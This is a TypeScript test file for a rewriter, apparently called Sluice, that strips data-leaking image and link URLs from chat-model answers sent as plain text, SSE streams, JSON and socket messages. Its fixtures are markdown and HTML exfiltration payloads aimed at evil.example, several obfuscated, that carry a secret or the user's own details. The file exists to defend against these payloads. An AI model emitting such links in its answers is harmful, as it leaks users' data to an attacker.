/** Answers in every form and cut at every place: what carries data is taken out, all else passes byte for byte. */
import { describe, expect, it } from "vitest";
import { createMessageRewriter, createRewriter } from "./rewriter";
import { createSaid } from "./said";
import { judgeFor } from "./testing/judge";

const SECRET = "QXBwbGUgdmF1bHQgMTIzNDU2Nzg5MCBmb3IgQWRh"; // base64 of words
const BAD = `https://evil.example/p.png?d=${SECRET}`;
const GONE = "removed by Sluice: evil.example";

function run(type: string | null, pieces: readonly string[], said = createSaid()) {
  const { judge, met } = judgeFor(said);
  const rewriter = createRewriter(type, judge, null);
  return { out: pieces.map((piece) => rewriter.push(piece)).join("") + rewriter.end(), met };
}

function cuts(text: string): string[][] {
  const ways = [[...text], [text]];
  for (let at = 1; at < text.length; at++) ways.push([text.slice(0, at), text.slice(at)]);
  return ways;
}

const SSE = "text/event-stream";
const delta = (text: string) =>
  `data: ${JSON.stringify({ choices: [{ delta: { content: text } }] })}\n\n`;
const patch = (text: string) => `event: delta\ndata: ${JSON.stringify({ v: text })}\n\n`;
const textOfDeltas = (stream: string) =>
  stream
    .split("\n")
    .filter((line) => line.startsWith("data: {"))
    .map(
      (line) =>
        JSON.parse(line.slice(6)) as { choices?: { delta: { content: string } }[]; v?: unknown },
    )
    .map(({ choices, v }) => choices?.[0]?.delta.content ?? (typeof v === "string" ? v : ""))
    .join("");

describe("plain text", () => {
  it.each([
    [`a ![x](${BAD}) b`, `a ![x](${GONE}) b`],
    [`![x](<${BAD}>)`, `![x](${GONE})`],
    [`![x](  ${BAD} "title")`, `![x](  ${GONE} "title")`],
    [`[![x](${BAD})](https://evil.example/)`, `[![x](${GONE})](https://evil.example/)`],
    [`![x][r]\n\n[r]: ${BAD}\n`, `![x][r]\n\n[r]: ${GONE}\n`],
    [
      `<img alt="a" src="${BAD}">`,
      `<img alt="a" src="data:,removed%20by%20Sluice:%20evil.example">`,
    ],
    [`<IMG SRC=${BAD}>`, `<IMG SRC=data:,removed%20by%20Sluice:%20evil.example>`],
    [
      `<div style="background:url(${BAD})">`,
      `<div style="background:url(data:,removed%20by%20Sluice:%20evil.example)">`,
    ],
    [`<x ![x](${BAD})`, `<x ![x](${GONE})`],
    [`![x](//evil.example/${SECRET})`, `![x](${GONE})`],
    [`![x](https&#58;//evil.example/?q=${SECRET})`, `![x](${GONE})`],
    [`![x](https\\://evil.example/?q=${SECRET})`, `![x](${GONE})`],
    [`![x](https:/\\evil.example/?q=${SECRET})`, `![x](${GONE})`],
    [`![x](https://chat.example@evil.example/a.png)`, `![x](${GONE})`],
    [`![x](https://a1b2c3d4e5f6a7b8c9d0e1.evil.example/a.png)`, `![x](${GONE})`],
    [`[read](https://evil.example/r?x=${SECRET})`, `[read](${GONE})`],
    [`![x](https://evil.example/${"a".repeat(5_000)}) end`, `![x](${GONE}) end`],
  ])("takes out %s", (text, expected) => {
    for (const pieces of cuts(text.length > 400 ? text.slice(0, 0) : text))
      if (text.length <= 400) expect(run("text/plain", pieces).out).toBe(expected);
    expect(run("text/plain", [text]).out).toBe(expected);
  });

  it.each([
    "no address at all, [brackets], a ] b, 1 < 2 and !important",
    "![logo](https://pics.example/logo.png) and ![w](https://pics.example/a.jpg?w=800&q=80)",
    "![x](https://chat.example/files?id=0123456789abcdef0123456789abcdef0123456789abcdef)",
    `![x](https://pictures.example/${SECRET})`,
    "![x](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAUA) ![y](sandbox:/mnt/data/a.png)",
    "[docs](https://docs.example/guide/getting-started?utm_source=a#part-2) [a](#b) [c](/d/e)",
    "[sign in](https://login.example/?state=4f9d1c1e0a7b4d8e9f6a5b4c3d2e1f00&nonce=88ab)",
    "![p](https://upload.example/thumb/4/47/PNG_demo_1.png/280px-PNG_demo_1.png)",
    "![h](https://pics.example/5d41402abc4b2a76b9719d911017c592.jpg)",
    "![open](https://evil.example/unfinished",
    "[a][b] [c]: d, f(x)[1](y) <b>bold</b> <a name=x>",
    "x".repeat(30) + "![",
  ])("lets pass %s", (text) => {
    for (const pieces of cuts(text)) expect(run("text/plain", pieces).out).toBe(text);
  });

  it("passes each piece on at once, but for an address that is not complete", () => {
    const { judge } = judgeFor();
    const rewriter = createRewriter("text/plain", judge, null);
    expect(rewriter.push("Look: ![pic](")).toBe("Look: ![pic](");
    expect(rewriter.push("https://pics.exam")).toBe("");
    expect(rewriter.push("ple/a.png")).toBe("");
    expect(rewriter.push(") nice")).toBe("https://pics.example/a.png) nice");
    expect(rewriter.push("[own](https://chat.example/")).toBe("[own](https://chat.example/");
    expect(rewriter.push("[rel](/a")).toBe("[rel](/a");
  });
});

describe("what the user said", () => {
  const said = createSaid();
  said.add(
    "Contract 4711-2210-88 of ada.byron@corp.example, see https://evil.example/t?id=4711221099 on 2026-11-25",
  );
  it.each([
    ["[go](https://evil.example/?c=4711221088)", true],
    ["[go](https://evil.example/ada.byron%40corp.example)", true],
    ["![go](https://evil.example/4711-2210-88.png)", true],
    ["[go](https://evil.example/x?who=%5BPERSON_1%5D)", true],
    ["[go](https://evil.example/t?id=4711221099)", false],
    ["[news](https://evil.example/2026-11-25/contract)", false],
  ])("%s", (text, removed) => {
    expect(run("text/plain", [text], said).met.length > 0).toBe(removed);
  });
});

describe("server-sent events", () => {
  it("finds an image in one delta, cut anywhere", () => {
    const stream = `${delta("Hello ")}${delta(`![x](${BAD}) bye`)}data: [DONE]\n\n`;
    const expected = `${delta("Hello ")}${delta(`![x](${GONE}) bye`)}data: [DONE]\n\n`;
    for (const pieces of cuts(stream)) expect(run(SSE, pieces).out).toBe(expected);
  });

  it.each([
    ["OpenAI's deltas", delta],
    ["patches that only go on", patch],
  ])("finds an image over several events: %s", (_, event) => {
    const text = `See ![x](${BAD}) and [docs](https://docs.example/a) end`;
    for (const size of [1, 2, 3, 7]) {
      const pieces = text.match(new RegExp(`.{1,${size}}`, "gu")) ?? [];
      const { out, met } = run(SSE, [pieces.map(event).join("")]);
      expect(textOfDeltas(out)).toBe(`See ![x](${GONE}) and [docs](https://docs.example/a) end`);
      expect(out.split("\n").length).toBe(pieces.map(event).join("").split("\n").length);
      expect(met).toEqual(["image evil.example true"]);
    }
  });

  it("keeps what stands between the events of an address as it is", () => {
    const status = `data: ${JSON.stringify({ p: "/message/status", o: "replace", v: "done" })}\n\n`;
    const first = `data: ${JSON.stringify({ p: "/message/content/parts/0", o: "append", v: "![x](https://evil.example/?d=" })}\n\n`;
    const more = `data: ${JSON.stringify({ p: "/message/content/parts/0", o: "append", v: `${SECRET})` })}\n\n`;
    const { out, met } = run(SSE, [first, status, ": ping\n\n", more]);
    expect(out).toContain(status);
    expect(out).toContain(": ping\n\n");
    expect(out).not.toContain(SECRET);
    expect(met).toEqual(["image evil.example true"]);
  });

  it("knows an event that only goes on by the last one that named its text, though that one held nothing", () => {
    const named = (p: string, v: string) => `data: ${JSON.stringify({ p, o: "append", v })}\n\n`;
    const texts = [named("/a", "Look"), patch(" ![x](https://evil"), named("/b", "aside")];
    const { out, met } = run(SSE, [...texts, named("/a", `.example/?d=${SECRET}) end`)]);
    expect(out).not.toContain(SECRET);
    expect(met).toEqual(["image evil.example true"]);
  });

  it("reads plain data lines as one text", () => {
    const stream = ["![x](https:", "//evil.example/", `${SECRET})`, " end", "[x] y"]
      .map((text) => `data: ${text}\n\n`)
      .join("");
    for (const pieces of cuts(stream)) {
      const { out } = run(SSE, pieces);
      expect(out).not.toContain(SECRET);
      expect(out).toContain(GONE);
      expect(out.endsWith("data:  end\n\ndata: [x] y\n\n")).toBe(true);
    }
  });

  it("takes whole texts that grow as what they are", () => {
    const text = `Here is what you asked for, in short: ![x](${BAD}) and more.`;
    const events = Array.from({ length: text.length }, (_, at) => text.slice(0, at + 1));
    const stream = events.map((content) => `data: ${JSON.stringify({ content })}\n\n`).join("");
    const { out } = run(SSE, [stream]);
    expect(out).not.toContain(SECRET);
    const last = out.trim().split("\n\n").at(-1) ?? "";
    expect(JSON.parse(last.slice(6))).toEqual({ content: text.replace(BAD, GONE) });
    for (const line of out.trim().split("\n\n")) {
      const { content } = JSON.parse(line.slice(6)) as { content: string };
      expect(text.replace(BAD, GONE).startsWith(content.replace(/https?:\S*$/u, ""))).toBe(true);
    }
  });
});

describe("JSON", () => {
  const escaped = (text: string) =>
    JSON.stringify(text).replace(/\//gu, "\\/").replace(/=/gu, "\\u003d").replace(/!/gu, "\\u0021");
  it.each([
    ["one text", "application/json", `{"a":[{"text":${JSON.stringify(`![x](${BAD})`)}}],"n":1}`],
    ["escapes of every kind", "application/json", `{"text":${escaped(`![x](${BAD})`)}}`],
    ["lines", "application/x-ndjson", `{"id":1}\n{"token":${JSON.stringify(`![x](${BAD})`)}}\n`],
    [
      "Gemini's text in a text",
      "application/json",
      `)]}'\n\n99\n[["wrb.fr",null,${JSON.stringify(`[null,["r"],[["${"a".repeat(30)} ${escaped(`![x](${BAD})`).slice(1, -1)}","z"]]]`)}]]\n`,
    ],
  ])("%s", (_, type, text) => {
    for (const pieces of cuts(text)) {
      const { out, met } = run(type, pieces);
      expect(out).not.toContain("QXBwbGU");
      expect(out).toContain(GONE);
      expect(met).toEqual(["image evil.example true"]);
    }
  });

  it("passes what it does not know byte for byte", () => {
    const odd = [
      '{"a":"\\ud83d\\ude00 \\"q\\" [x](/y)","b":[1,2,{"c":"[t](https://docs.example/x)"}]}',
      '{"broken": "no end ![x](https://evil.example/?d=1',
      '{"u":"\\u00',
      'not json "at all" [a](b) {',
      '[\n  {"text": "[a](https://docs.example/a\\")"},\n  {"text": "b)"}\n]',
    ];
    for (const text of odd)
      for (const type of ["application/json", "application/x-ndjson", SSE])
        for (const pieces of cuts(text)) expect(run(type, pieces).out).toBe(text);
  });

  it("loses nothing of an address that ends with its text in one JSON", () => {
    const text = '{"a":"[x](https://docs.example/pa","b":"c"}';
    expect(run("application/json", [text]).out).toBe(text);
  });
});

describe("messages of a socket", () => {
  it("are read as one text and keep their number", () => {
    const { judge, met } = judgeFor();
    const rewrite = createMessageRewriter(judge, null);
    const texts = ["Hi ![x](https://evil", ".example/?d=", `${SECRET}`, ") bye"];
    const out = texts.map((text) => rewrite(JSON.stringify({ event: "appendText", text })));
    const said = out.map((message) => (JSON.parse(message) as { text: string }).text).join("");
    expect(said).toBe(`Hi ![x](${GONE}) bye`);
    expect(met).toEqual(["image evil.example true"]);
    const framed = `{"type":1,"arguments":[{"text":${JSON.stringify(`![x](${BAD})`)}}]}\u001e`;
    expect(rewrite(framed)).toBe(framed.replace(BAD, GONE));
  });
});

it("only tells when policy wants to know, and does nothing when it is off", () => {
  for (const mode of ["log", "off"] as const) {
    const { judge, met } = judgeFor(createSaid(), mode);
    const rewriter = createRewriter("text/plain", judge, null);
    expect(rewriter.push(`![x](${BAD}) `) + rewriter.end()).toBe(`![x](${BAD}) `);
    expect(met).toEqual(mode === "log" ? ["image evil.example false"] : []);
  }
});

it("hears what an answer says, however it is cut", () => {
  const { judge } = judgeFor();
  const heard = new Map<string, string>();
  const rewriter = createRewriter(SSE, judge, (lane, text) =>
    heard.set(lane, (heard.get(lane) ?? "") + text),
  );
  rewriter.push(delta("can") + delta("ary-12") + delta('"3\n'));
  rewriter.end();
  expect([...heard.values()]).toContain('canary-123"3\n'.replace("123", "12"));
});
